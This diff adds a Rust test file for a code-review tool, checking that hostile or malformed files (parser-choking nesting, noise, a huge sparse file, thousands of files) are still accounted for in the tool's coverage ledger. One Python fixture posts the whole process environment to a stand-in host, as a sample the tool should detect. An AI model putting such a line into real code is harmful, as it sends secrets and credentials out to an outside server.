@@ -1,0 +1,100 @@
+//! Hostile bytes: each review ends, and its coverage tells what happened to the file.
+
+use std::fs;
+use std::path::Path;
+
+use candor::report::model::{Disposition, FileCoverage, Report};
+
+use super::review_run::Review;
+
+/// Reviews a submission of `files` besides one harmless file.
+fn review(files: &[(&str, Vec<u8>)]) -> Report {
+    let scratch = tempfile::tempdir().expect("a scratch folder");
+    let root = scratch.path().join("submission");
+    fs::create_dir(&root).expect("a folder");
+    fs::write(root.join("fine.py"), "import os\nprint(os.getcwd())\n").expect("a file");
+    for (name, bytes) in files {
+        fs::write(root.join(name), bytes).expect("a file");
+    }
+    reviewed(&root)
+}
+
+fn reviewed(root: &Path) -> Report {
+    let review = Review::of(root).arg("--no-store").run();
+    let report = review.report();
+    assert_eq!(file(&report, "fine.py").disposition, Disposition::Dataflow, "the rest is examined as ever");
+    report
+}
+
+fn file<'a>(report: &'a Report, name: &str) -> &'a FileCoverage {
+    let found = report.coverage.files.iter().find(|file| file.path == name);
+    found.unwrap_or_else(|| panic!("{name} has no line in the ledger"))
+}
+
+/// Bytes without structure, the same on every run (xorshift).
+fn noise(length: usize) -> Vec<u8> {
+    let mut state = 0x2545_f491_4f6c_dd1d_u64;
+    let mut next = || {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        (state >> 32) as u8
+    };
+    (0..length).map(|_| next()).collect()
+}
+
+#[test]
+fn code_that_a_parser_chokes_on_gets_a_weaker_pass_and_is_named() {
+    let nested = |open: &str, close: &str, count| [open.repeat(count), "1".to_owned(), close.repeat(count)].concat();
+    let files = [
+        ("braces.c", "{<".repeat(500_000).into_bytes()),
+        ("arrows.c", "a=>".repeat(10_000).into_bytes()),
+        ("noise.py", noise(1_000_000)),
+        ("nested.py", nested("(", ")", 200_000).into_bytes()),
+        ("nested.c", format!("int x = {};", nested("(", ")", 200_000)).into_bytes()),
+        ("indents.py", (0..3000).map(|depth| format!("{}if x:\n", " ".repeat(depth))).collect::<String>().into_bytes()),
+        ("nul.c", [b"int main(void) { return 0; }\n".as_slice(), &[0; 100_000]].concat()),
+        ("line.py", [b"x = '".to_vec(), vec![b'a'; 2_000_000], b"'\n".to_vec()].concat()),
+    ];
+    let report = review(&files);
+    for (name, bytes) in &files {
+        let line = file(&report, name);
+        assert_eq!(line.bytes, bytes.len() as u64, "{name}");
+        assert!(line.disposition == Disposition::Dataflow || line.reason.is_some(), "{name}: {line:?}");
+    }
+    for name in ["braces.c", "noise.py", "nested.py", "nested.c", "nul.c"] {
+        assert_ne!(file(&report, name).disposition, Disposition::Dataflow, "{name}");
+    }
+}
+
+#[test]
+fn text_that_is_not_utf_8_is_read_nevertheless() {
+    let source = b"import os, requests\n# caf\xe9\nrequests.post('https://a.example', data=dict(os.environ))\n".to_vec();
+    let report = review(&[("latin.py", source)]);
+    assert!(report.findings.iter().any(|finding| finding.sink.path == "latin.py"));
+}
+
+#[test]
+fn one_huge_file_costs_no_more_than_its_own_line() {
+    let scratch = tempfile::tempdir().expect("a scratch folder");
+    fs::write(scratch.path().join("fine.py"), "pass\n").expect("a file");
+    fs::File::create(scratch.path().join("huge.c")).and_then(|file| file.set_len(300 << 20)).expect("a sparse file");
+    let report = reviewed(scratch.path());
+    let told = report.coverage.refused.iter().any(|refusal| refusal.path == "huge.c")
+        || report.coverage.files.iter().any(|file| file.path == "huge.c" && file.disposition != Disposition::Dataflow);
+    assert!(told, "nothing says what became of huge.c");
+}
+
+#[test]
+fn very_many_files_all_have_their_line() {
+    let scratch = tempfile::tempdir().expect("a scratch folder");
+    fs::write(scratch.path().join("fine.py"), "pass\n").expect("a file");
+    for folder in 0..20 {
+        let folder = scratch.path().join(format!("d{folder}"));
+        fs::create_dir(&folder).expect("a folder");
+        for number in 0..1000 {
+            fs::File::create(folder.join(format!("{number}.py"))).expect("a file");
+        }
+    }
+    assert_eq!(reviewed(scratch.path()).coverage.totals.files, 20_001);
+}
